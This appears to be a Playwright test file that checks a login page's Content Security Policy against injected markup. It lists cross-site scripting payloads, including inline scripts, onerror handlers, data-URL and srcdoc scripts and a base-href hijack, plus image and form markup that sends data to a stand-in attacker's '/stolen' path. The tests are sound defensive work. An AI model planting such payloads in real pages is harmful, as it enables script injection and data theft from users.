import assert from "node:assert/strict";
import { after, test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import type { Page } from "playwright-core";
import { startAttacker } from "../support/attacker.ts";
import { launchBrowser, newVisitor } from "../support/browser.ts";
import { PATIENCE } from "../support/patience.ts";
import { startSkeleton } from "./skeleton.ts";

const { origin } = await startSkeleton({ after });
const attacker = await startAttacker({ after });
const browser = await launchBrowser();
after(() => browser.close());

const STYLED = `getComputedStyle(document.querySelector("h1")).color === "rgb(1, 2, 3)"`;

/** Markup an attacker got into the page, what the policy must stop it by, and a sign that it ran. */
const injections: readonly [name: string, markup: string, directive: string, ran: string][] = [
  ["an inline script", `<script>window.pwned = 1</script>`, "script-src-elem", "window.pwned === 1"],
  [
    "a script with a guessed nonce",
    `<script nonce="a">window.pwned = 1</script>`,
    "script-src-elem",
    "window.pwned === 1",
  ],
  [
    "an event handler",
    `<img src="/missing.png" onerror="window.pwned = 1">`,
    "script-src-attr",
    "window.pwned === 1",
  ],
  [
    "a script of another origin",
    `<script src="${attacker.url("/evil.js")}"></script>`,
    "script-src-elem",
    "window.pwned === 1",
  ],
  [
    "a script in a data address",
    `<script src="data:text/javascript,window.pwned=1"></script>`,
    "script-src-elem",
    "window.pwned === 1",
  ],
  ["a style element", `<style>h1 { color: rgb(1, 2, 3) }</style>`, "style-src-elem", STYLED],
  [
    "a style attribute",
    `<style nonce="a">h1 { color: rgb(1, 2, 3) }</style><p style="color: red">x</p>`,
    "style-src-attr",
    STYLED,
  ],
  [
    "a style sheet of another origin",
    `<link rel="stylesheet" href="${attacker.url("/evil.css")}">`,
    "style-src-elem",
    STYLED,
  ],
  ["an image that carries data away", `<img src="${attacker.url("/stolen?a=b")}">`, "img-src", "false"],
  ["a frame", `<iframe src="${attacker.url("/frame")}"></iframe>`, "frame-src", "false"],
  [
    "a frame with a document of its own",
    `<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
    "script-src-elem",
    "window.pwned === 1",
  ],
  ["a plug-in", `<object data="${attacker.url("/object")}"></object>`, "object-src", "false"],
  [
    "another base for every link",
    `<base href="${attacker.url("/")}">`,
    "base-uri",
    `document.baseURI.includes("${attacker.port}")`,
  ],
];

attacker.page("/evil.js", "window.pwned = 1", { "content-type": "text/javascript" });
attacker.page("/evil.css", "h1 { color: rgb(1, 2, 3) }", { "content-type": "text/css" });

for (const [name, markup, directive, ran] of injections) {
  test(`stops ${name} that was written into the page`, async () => {
    const page = await newVisitor(browser);
    await servePoisoned(page, markup);
    await page.goto(`${origin}/login`);
    await waitForViolation(page, directive);
    assert.equal(await page.evaluate(ran), false, "it ran");
    assert.deepEqual(attacker.seen, [], "it reached the attacker");
    await page.context().close();
  });
}

/** Serves the log-in page with markup in it, as a template that escapes nothing would, and notes what the policy stops. */
async function servePoisoned(page: Page, markup: string): Promise<void> {
  await page.route(`${origin}/login`, async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: (await answer.text()).replace("</h1>", `</h1>${markup}`) });
  });
  await page.addInitScript(`
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      top.violations = [...(top.violations ?? []), effectiveDirective];
    });
  `);
}

/** Playwright's own waiting evaluates text inside the page, which is what the policy forbids. */
async function waitForViolation(page: Page, directive: string): Promise<void> {
  const deadline = Date.now() + PATIENCE.timeout;
  while (Date.now() < deadline) {
    if (await page.evaluate<boolean>(`window.violations?.includes("${directive}") ?? false`)) return;
    await pause(20);
  }
  assert.fail(`nothing was stopped by ${directive}`);
}

test("sends no form of the page to another origin", async () => {
  const page = await newVisitor(browser);
  await servePoisoned(page, "");
  await page.goto(`${origin}/login`);
  const form = page.locator("main form");
  await form.evaluate((element, url) => element.setAttribute("action", url), attacker.url("/stolen"));
  await form.getByRole("button").dispatchEvent("click");
  await waitForViolation(page, "form-action");
  assert.deepEqual(attacker.seen, []);
  await page.context().close();
});

test("runs no text as code", async () => {
  const page = await newVisitor(browser);
  await page.goto(`${origin}/login`);
  // In a task of the page's own: what the test itself evaluates is exempt from the policy.
  const outcome = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            resolve(String(Reflect.construct(Function, ["return 'ran'"])()));
          } catch (error) {
            resolve(error instanceof EvalError ? "refused" : String(error));
          }
        });
      }),
  );
  assert.equal(outcome, "refused");
  await page.context().close();
});
